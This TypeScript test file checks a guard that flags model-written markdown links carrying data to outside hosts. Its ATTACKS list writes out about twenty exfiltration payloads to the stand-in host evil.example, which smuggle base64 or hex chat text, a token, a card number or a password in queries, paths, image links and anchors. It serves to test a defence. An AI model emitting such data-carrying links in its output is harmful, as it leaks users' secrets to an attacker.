import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Match } from '../../guard/guard.ts'
import { MARKDOWN_PIECES } from '../../sinks/markdown/attacks.data.ts'
import { dataCarryingRules } from '../../sinks/markdown/data-carrying-rules.ts'
import { scanInChunks, scanWhole } from '../../sinks/markdown/scan-text.ts'
import { exfiltration } from './exfiltration.ts'

function scan(text: string, input: { hosts?: string[]; allowAll?: boolean } = {}): readonly Match[] {
  const options = exfiltration.options.parse(input)
  return exfiltration.open?.(options, { stage: 'output', origin: 'model' })?.push(text, true) ?? []
}

const encoded = Buffer.from('the user said their code is 4412').toString('base64url')
const hex = Buffer.from('the user said their code is 4412').toString('hex')
const token = `ghp_${'a1B2'.repeat(9)}`

const ATTACKS = [
  ['base64 in the query', `[more](https://evil.example/?d=${encoded})`],
  ['base64 in the path', `[more](https://evil.example/x/${encoded})`],
  ['base64 in the fragment', `[more](https://evil.example/#${encoded})`],
  ['hex in the host name', `[more](https://${hex.slice(0, 60)}.evil.example/)`],
  ['a bare URL', `Look at https://evil.example/?d=${encoded} now`],
  ['an autolink', `<https://evil.example/?d=${encoded}>`],
  ['a reference definition', `[more][r]\n\n[r]: https://evil.example/?d=${encoded}\n`],
  ['an anchor', `<a href="https://evil.example/?d=${encoded}">more</a>`],
  ['an image', `![x](https://evil.example/?d=${encoded})`],
  ['entities in the address', `[more](https&colon;//evil.example/?d=${encoded})`],
  ['an e-mail address', '[more](https://evil.example/?u=jane.doe@corp.example)'],
  ['a card number', '[more](https://evil.example/?n=4111-1111-1111-1111)'],
  ['a token', `[more](https://evil.example/?t=${token})`],
  ['sentences', '[more](https://evil.example/p?m=The+user+asked+about+a+password+reset)'],
  ['sentences in percent escapes', '[more](https://evil.example/p?m=The%20user%20asked%20for%20the%20salary)'],
  ['a placeholder', '[more](https://evil.example/?x=CHAT_HISTORY_BASE64)'],
  ['a named theft', '[more](https://evil.example/?password=hunter2)'],
  ['userinfo', `[more](https://${encoded}@evil.example/)`],
  ['another scheme case', `[more](HTTPS://EVIL.EXAMPLE/?d=${encoded})`],
  ['a host without scheme', `[more](//evil.example/?d=${encoded})`],
] as const

const ORDINARY = [
  '[docs](https://docs.example.com/guide/getting-started#install)',
  '[search](https://search.example.com/search?q=how+to+bake+bread)',
  '[commit](https://github.com/o/r/commit/235b653bbb57101dca7db3ff2f880115d781bc38)',
  '[video](https://www.youtube.com/watch?v=oO8_2JJV0B4&t=10s)',
  '[doc](https://docs.google.com/document/d/1A2b3C4d5E6f7G8h9I0jK1L2m3N4o5P6q7R8s9T0u/edit?usp=sharing)',
  '[utm](https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024)',
  '[id](https://example.com/orders/550e8400-e29b-41d4-a716-446655440000)',
  '[article](https://example.com/2024/05/a-very-long-title-about-some-very-interesting-things-in-the-world)',
  '[text](https://example.com/a#:~:text=some%20words%20of%20the%20page)',
  '[signed](https://b.s3.amazonaws.com/k?X-Amz-Signature=4c2b1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c&X-Amz-Expires=900)',
  'https://example.com/?page=2&sort=asc and www.example.com',
  '[mail](mailto:jane@corp.example)',
  '[rel](/search?q=the+user+asked+about+a+password)',
  '`https://evil.example/?password=hunter2`',
]

describe('exfiltration', () => {
  it.each(ATTACKS)('finds %s', (_name, text) => {
    const matches = scan(text)
    expect(matches).toHaveLength(1)
    expect(matches[0]?.confidence).toBeGreaterThanOrEqual(0.7)
    expect(matches[0]?.replacement).not.toContain('evil')
  })

  it.each(ORDINARY)('leaves ordinary links alone: case %#', (text) => {
    expect(scan(text).filter((match) => match.confidence >= 0.5)).toEqual([])
  })

  it.each(ATTACKS)('weighs %s less on an allowed host', (_name, text) => {
    const [open] = scan(text)
    for (const match of [
      ...scan(text, { hosts: ['evil.example', '*.evil.example'] }),
      ...scan(text, { allowAll: true }),
    ]) {
      expect(match.confidence).toBeLessThan(open?.confidence ?? 0)
      expect(match.severity).toBe('low')
    }
  })

  it('keeps the text of a link', () => {
    const [match] = scan(`[more](https://evil.example/?d=${encoded})`)
    expect(match).toMatchObject({ start: 6, replacement: ' (link removed: it carries data)' })
  })

  it('finds the same for any chunking', () => {
    const rules = dataCarryingRules(() => false, 0.4)
    const part = fc.constantFrom(...MARKDOWN_PIECES, ...ATTACKS.map(([, text]) => text), ...ORDINARY)
    fc.assert(
      fc.property(fc.array(part, { maxLength: 10 }), fc.array(fc.integer({ min: 0, max: 20 })), (parts, sizes) => {
        const text = parts.join('')
        expect(scanInChunks(text, sizes, rules)).toEqual(scanWhole(text, rules))
      }),
      { numRuns: 800 },
    )
  })
})
